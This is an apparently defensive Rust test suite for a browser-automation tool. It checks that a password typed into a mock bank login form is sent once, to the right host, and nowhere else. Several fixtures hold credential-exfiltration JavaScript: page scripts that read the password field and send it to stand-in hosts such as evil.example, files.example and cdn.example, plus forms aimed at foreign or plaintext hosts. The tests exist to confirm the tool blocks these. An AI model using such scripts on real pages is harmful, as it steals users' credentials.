//! A secret is typed into the bank's form, leaves once, and goes nowhere else.

use recipe::{NetworkFault, Session};

use crate::bank::{Answer, Bank};
use crate::stage::{
    CountingDesk, PASSWORD, browser, browser_at, login, open, short_limits, text, until,
};

const FORM: &str = r#"<form action="/auth" method="post"><input name="NAME"><input type="password" name="PW"></form>"#;

fn escaped() -> String {
    PASSWORD.replace('#', "%23")
}

/// Whether any request but the one of this line held the password.
fn told(bank: &Bank, but: &str) -> Vec<String> {
    let seen = bank.seen().into_iter();
    seen.filter(|seen| {
        let whole = format!("{} {} {:?}", seen.line, seen.body, seen.header("referer"));
        seen.line != but && (whole.contains(PASSWORD) || whole.contains(&escaped()))
    })
    .map(|seen| seen.line)
    .collect()
}

async fn bank_with(page: String) -> Bank {
    Bank::open(move |seen| match seen.line.as_str() {
        "GET /login" => Answer::page(&page),
        "POST /auth" => Answer::page("<p>ようこそ</p>"),
        _ => Answer::page("<p>ほか</p>"),
    })
    .await
}

/// Opens the form and sends name and password.
async fn sign_in(
    bank: &Bank,
) -> (
    Result<recipe::Page, NetworkFault>,
    CountingDesk,
    Vec<String>,
) {
    let mut session = browser_at(bank.address, short_limits(), CountingDesk::default()).await;
    until(&mut session, &open("/login"), "PW")
        .await
        .expect("the form");
    let came = until(&mut session, &login(0), "ようこそ").await;
    let notes = session.notes();
    (came, session.close().await, notes)
}

fn is_broken(came: &Result<recipe::Page, NetworkFault>, end: &str, was_sent: bool) {
    match came {
        Err(NetworkFault::FenceBroken { to, sent }) => {
            assert!(to.ends_with(end), "{to}");
            assert_eq!(*sent, was_sent);
        }
        other => panic!("{other:?}"),
    }
}

#[tokio::test]
async fn the_login_is_written_down_right_before_it_leaves_and_leaves_once() {
    let bank = bank_with(FORM.to_owned()).await;
    let (came, desk, _) = sign_in(&bank).await;
    assert!(text(&came.expect("a page")).contains("ようこそ"));
    assert_eq!(desk.intents, 1);
    let sent = bank.bodies("POST /auth");
    assert_eq!(sent.len(), 1);
    assert!(sent[0].ends_with(&format!("PW={}", escaped())), "{sent:?}");
    assert!(sent[0].starts_with("NAME=%E8%A6%8B%E6%9C%AC"), "{sent:?}");
}

#[tokio::test]
async fn nothing_leaves_when_the_login_cannot_be_written_down() {
    let bank = bank_with(FORM.to_owned()).await;
    let desk = CountingDesk {
        ledger_is_broken: true,
        ..CountingDesk::default()
    };
    let mut session = browser_at(bank.address, short_limits(), desk).await;
    until(&mut session, &open("/login"), "PW")
        .await
        .expect("the form");
    let came = until(&mut session, &login(0), "ようこそ").await;
    assert_eq!(came, Err(NetworkFault::Interrupted { sent: false }));
    session.close().await;
    assert_eq!(bank.lines(), ["GET /login"]);
}

#[tokio::test]
async fn a_stopped_fetch_types_nothing() {
    let bank = bank_with(FORM.to_owned()).await;
    let desk = CountingDesk {
        is_stopped: true,
        ..CountingDesk::default()
    };
    let mut session = browser_at(bank.address, short_limits(), desk).await;
    let came = until(&mut session, &open("/login"), "PW").await;
    assert_eq!(came, Err(NetworkFault::Interrupted { sent: false }));
    session.close().await;
    assert!(bank.lines().is_empty());
}

#[tokio::test]
async fn a_script_that_sends_the_password_elsewhere_ends_the_walk() {
    for (elsewhere, end) in [
        (r#"fetch("/page/x?p=" + encodeURIComponent(pw))"#, "/page/x"),
        (r#"fetch("/page/" + encodeURIComponent(pw))"#, ""),
        (
            r#"fetch("https://files.example/auth", { method: "POST", body: pw })"#,
            "/auth",
        ),
        (
            r#"fetch("https://files.example/csv/" + encodeURIComponent(pw))"#,
            "",
        ),
        (
            r#"location.href = "/page/x?p=" + encodeURIComponent(pw)"#,
            "/page/x",
        ),
        (
            r#"new Image().src = "https://evil.example/" + encodeURIComponent(pw)"#,
            "",
        ),
    ] {
        let page = format!(
            r#"{FORM}<script>document.forms[0].onsubmit = (event) => {{
              event.preventDefault(); const pw = document.forms[0].PW.value; {elsewhere} }}</script>"#
        );
        let bank = bank_with(page).await;
        let (came, desk, _) = sign_in(&bank).await;
        is_broken(&came, end, false);
        assert_eq!(desk.intents, 0, "{elsewhere}");
        assert_eq!(bank.lines(), ["GET /login"], "{elsewhere}");
    }
}

#[tokio::test]
async fn a_form_that_would_put_the_password_into_the_address_is_not_sent() {
    let page = FORM.replace(r#"action="/auth" method="post""#, r#"action="/page""#);
    let bank = bank_with(page).await;
    let (came, desk, _) = sign_in(&bank).await;
    is_broken(&came, "/page", false);
    assert_eq!(desk.intents, 0);
    assert_eq!(bank.lines(), ["GET /login"]);
}

#[tokio::test]
async fn a_form_that_leads_to_another_host_is_not_sent() {
    for action in ["https://evil.example/auth", "https://files.example/auth"] {
        let page = FORM.replace(r#"action="/auth""#, &format!("action=\"{action}\""));
        let bank = bank_with(page).await;
        let (came, desk, _) = sign_in(&bank).await;
        is_broken(&came, "/auth", false);
        assert_eq!(desk.intents, 0);
        assert_eq!(bank.lines(), ["GET /login"], "{action}");
    }
}

#[tokio::test]
async fn a_form_that_leads_into_the_clear_is_not_sent() {
    let page = FORM.replace(r#"action="/auth""#, r#"action="http://bank.example/auth""#);
    let bank = bank_with(page).await;
    let (came, desk, _) = sign_in(&bank).await;
    is_broken(&came, "an address that the browser itself refuses", false);
    assert_eq!(desk.intents, 0);
    assert_eq!(bank.lines(), ["GET /login"]);
}

#[tokio::test]
async fn a_redirect_that_would_repeat_the_password_is_not_followed() {
    for status in ["307 Temporary Redirect", "308 Permanent Redirect"] {
        let bank = Bank::open(move |seen| match seen.line.as_str() {
            "GET /login" => Answer::page(FORM),
            "POST /auth" => Answer::redirect(status, "/search"),
            _ => Answer::page("<p>ようこそ</p>"),
        })
        .await;
        let (came, _, _) = sign_in(&bank).await;
        is_broken(&came, "/auth", true);
        assert_eq!(bank.lines(), ["GET /login", "POST /auth"]);
    }
}

#[tokio::test]
async fn a_script_that_sends_the_password_twice_ends_the_walk() {
    let page = format!(
        r#"{FORM}<script>document.forms[0].onsubmit = async (event) => {{
          event.preventDefault();
          const body = JSON.stringify({{ pw: document.forms[0].PW.value }});
          await fetch("/api/login", {{ method: "POST", body }});
          await fetch("/search", {{ method: "POST", body }}); }}</script>"#
    );
    let bank = bank_with(page).await;
    let (came, desk, _) = sign_in(&bank).await;
    is_broken(&came, "/search", true);
    assert_eq!(desk.intents, 1);
    assert_eq!(bank.lines(), ["GET /login", "POST /api/login"]);
    assert_eq!(told(&bank, "POST /api/login"), Vec::<String>::new());
}

#[tokio::test]
async fn other_hosts_give_assets_without_learning_anything() {
    let page = format!(
        r#"{FORM}<script>
        const get = (tag, address) => new Promise((done) => {{
          const element = document.createElement(tag);
          element.onload = element.onerror = done;
          element.src = "https://cdn.example/" + address;
          document.body.append(element);
        }});
        document.cookie = "sid=1";
        get("img", "lib/before.png");
        document.forms[0].onsubmit = async (event) => {{
          event.preventDefault();
          await get("img", "lib/" + btoa(document.forms[0].PW.value));
          await get("script", "fixed.js");
          document.forms[0].submit();
        }}</script>"#
    );
    let bank = Bank::open(move |seen| match seen.line.as_str() {
        "GET /login" => Answer::page(&page).with("Set-Cookie", "a=1"),
        "POST /auth" => Answer::page("<p>ようこそ</p>"),
        _ => Answer::of("image/png", "").with("Set-Cookie", "spy=1"),
    })
    .await;
    let (came, _, notes) = sign_in(&bank).await;
    came.expect("a page");
    assert_eq!(
        bank.lines(),
        [
            "GET /login",
            "GET /lib/before.png",
            "GET /fixed.js",
            "POST /auth"
        ]
    );
    let seen = bank.seen();
    for asset in &seen[1..3] {
        assert_eq!(asset.header("cookie"), None);
        assert_eq!(asset.header("referer"), None);
    }
    assert_eq!(seen[3].header("cookie"), Some("a=1; sid=1"));
    assert_eq!(notes.len(), 1, "{notes:?}");
    assert!(
        notes[0].starts_with("cut: GET https://cdn.example/lib/"),
        "{notes:?}"
    );
}

#[tokio::test]
async fn a_page_is_given_without_what_was_typed_into_it() {
    let page = format!(
        r#"{FORM}<script>document.forms[0].onsubmit = (event) => {{
          event.preventDefault();
          // As some frameworks do.
          for (const field of document.forms[0].elements) field.setAttribute("value", field.value);
          fetch("/auth", {{ method: "POST", body: "x" }}).then(() => document.body.append("ようこそ"));
        }}</script>"#
    );
    let bank = bank_with(page).await;
    let mut session = browser(&bank).await;
    until(&mut session, &open("/login"), "PW")
        .await
        .expect("the form");
    let page = until(&mut session, &login(0), "ようこそ</body>")
        .await
        .expect("a page");
    assert!(!text(&page).contains(PASSWORD));
    assert_eq!(
        session.close().await.intents,
        1,
        "the login's first POST counts, whatever is in it"
    );
}
